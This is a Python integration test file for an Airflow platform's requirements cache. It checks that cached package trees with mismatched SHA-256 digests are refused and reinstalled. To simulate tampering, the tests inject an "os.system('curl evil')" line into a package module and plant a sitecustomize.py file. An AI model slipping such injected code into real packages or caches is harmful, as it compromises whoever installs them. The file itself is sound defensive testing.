"""The requirements cache is trusted only as far as it proves itself: every installed tree
carries the SHA-256 of each of its files, written at publish, and a restored tree that
differs (a changed, missing or added file) is refused and installed afresh. A cache mounted
read-only (where tasks run) is used and never written."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from boot_helpers import PodDirs

from airflow_platform.bootstrap.entrypoint import prepare
from airflow_platform.bootstrap.result import InstallResult
from airflow_platform.bootstrap.tree_cache import FILES, TamperedTree, TreeCache

pytestmark = pytest.mark.integration

REQUIREMENTS = "cowsay==6.1\n"


def _start(pod: PodDirs, **env: str) -> tuple[InstallResult, list[str]]:
    logs: list[str] = []
    prepared = prepare("worker", ["true"], pod.env(**env), logs.append)
    assert prepared.requirements is not None
    return prepared.requirements, logs


def _cached_tree(pod: PodDirs) -> Path:
    [tree] = [p for p in (pod.cache / "trees").iterdir() if not p.name.startswith(".")]
    return tree


def _cache_files(pod: PodDirs) -> dict[str, bytes]:
    return {
        str(p.relative_to(pod.cache)): p.read_bytes()
        for p in sorted(pod.cache.rglob("*"))
        if p.is_file() and "/uv/" not in f"/{p.relative_to(pod.cache)}"
    }


@pytest.fixture
def warm_pod(tmp_path: Path) -> PodDirs:
    """A pod whose cache holds the installed tree; its own packages dir is empty again."""
    pod = PodDirs(tmp_path)
    pod.write_requirements(REQUIREMENTS)
    cold, _ = _start(pod)
    assert cold.status == "installed"
    shutil.rmtree(pod.packages)
    return pod


def test_publish_records_every_file(warm_pod: PodDirs) -> None:
    tree = _cached_tree(warm_pod)
    digests = json.loads((tree / FILES).read_text())
    code = "cowsay/__init__.py"
    assert code in digests and len(digests[code]) == 64
    assert any(p.endswith(".pyc") for p in digests)  # the bytecode is covered too
    assert any(p.endswith("dist-info/RECORD") for p in digests)
    restored, _ = _start(warm_pod)
    assert restored.status == "tree-cache"


@pytest.mark.parametrize("change", ["changed", "added", "removed", "digests_lost"])
def test_a_tampered_tree_is_refused_and_installed_afresh(warm_pod: PodDirs, change: str) -> None:
    tree = _cached_tree(warm_pod)
    module = tree / "cowsay" / "__init__.py"
    if change == "changed":
        module.write_text(module.read_text() + "\nimport os; os.system('curl evil')\n")
    elif change == "added":
        (tree / "sitecustomize.py").write_text("print('owned')\n")
    elif change == "removed":
        module.unlink()
    else:
        (tree / FILES).unlink()

    result, logs = _start(warm_pod)
    # Not "tree-cache": the tree was not used; the resolution is installed again from wheels.
    assert result.status == "wheel-cache"
    [refusal] = [line for line in logs if line.startswith("refusing the cached tree")]
    expected = {
        "changed": "changed: cowsay/__init__.py",
        "added": "not in the digests: sitecustomize.py",
        "removed": "missing: cowsay/__init__.py",
        "digests_lost": f"{FILES} is missing or unreadable",
    }[change]
    assert expected in refusal and refusal.endswith("installing afresh")
    packages = warm_pod.packages
    assert "curl evil" not in (packages / "cowsay" / "__init__.py").read_text()
    assert not (packages / "sitecustomize.py").exists()
    # The bad tree was moved aside and a good one published in its place.
    good = _cached_tree(warm_pod)
    assert "curl evil" not in (good / "cowsay" / "__init__.py").read_text()
    assert not (good / "sitecustomize.py").exists()
    shutil.rmtree(packages)
    again, logs = _start(warm_pod)
    assert again.status == "tree-cache"
    assert not any(line.startswith("refusing") for line in logs)


def test_restore_leaves_nothing_of_a_refused_tree(warm_pod: PodDirs, tmp_path: Path) -> None:
    cache = TreeCache(warm_pod.cache)
    tree = _cached_tree(warm_pod)
    (tree / "cowsay" / "__init__.py").write_text("evil = True\n")
    target = tmp_path / "restored"
    with pytest.raises(TamperedTree, match=r"changed: cowsay/__init__\.py"):
        cache.restore(tree.name, target)
    assert list(target.iterdir()) == []
    assert not cache.has_tree(tree.name)


def test_a_read_only_cache_is_used_and_never_written(warm_pod: PodDirs) -> None:
    read_only = {"AIRFLOW_PLATFORM_REQUIREMENTS_CACHE_READ_ONLY": "true"}
    before = _cache_files(warm_pod)
    restored, _ = _start(warm_pod, **read_only)
    assert restored.status == "tree-cache"
    # New requirements: installed privately (uv's cache under HOME), nothing published.
    warm_pod.write_requirements(REQUIREMENTS + "iso8601==2.1.0\n")
    home = warm_pod.root / "home-dir"
    installed, logs = _start(warm_pod, HOME=str(home), **read_only)
    assert installed.status == "installed"
    assert any("is read-only here" in line for line in logs)
    assert _cache_files(warm_pod) == before
    assert (home / ".cache" / "airflow-platform-uv").is_dir()
    # A tampered tree in a read-only cache cannot be moved aside; it is refused every time.
    tree = _cached_tree(warm_pod)
    (tree / "cowsay" / "__init__.py").write_text("evil = True\n")
    warm_pod.write_requirements(REQUIREMENTS)
    shutil.rmtree(warm_pod.packages)
    refused, logs = _start(warm_pod, HOME=str(home), **read_only)
    assert refused.status in ("installed", "wheel-cache")
    assert any(line.startswith("refusing the cached tree") for line in logs)
    assert "evil" not in (warm_pod.packages / "cowsay" / "__init__.py").read_text()
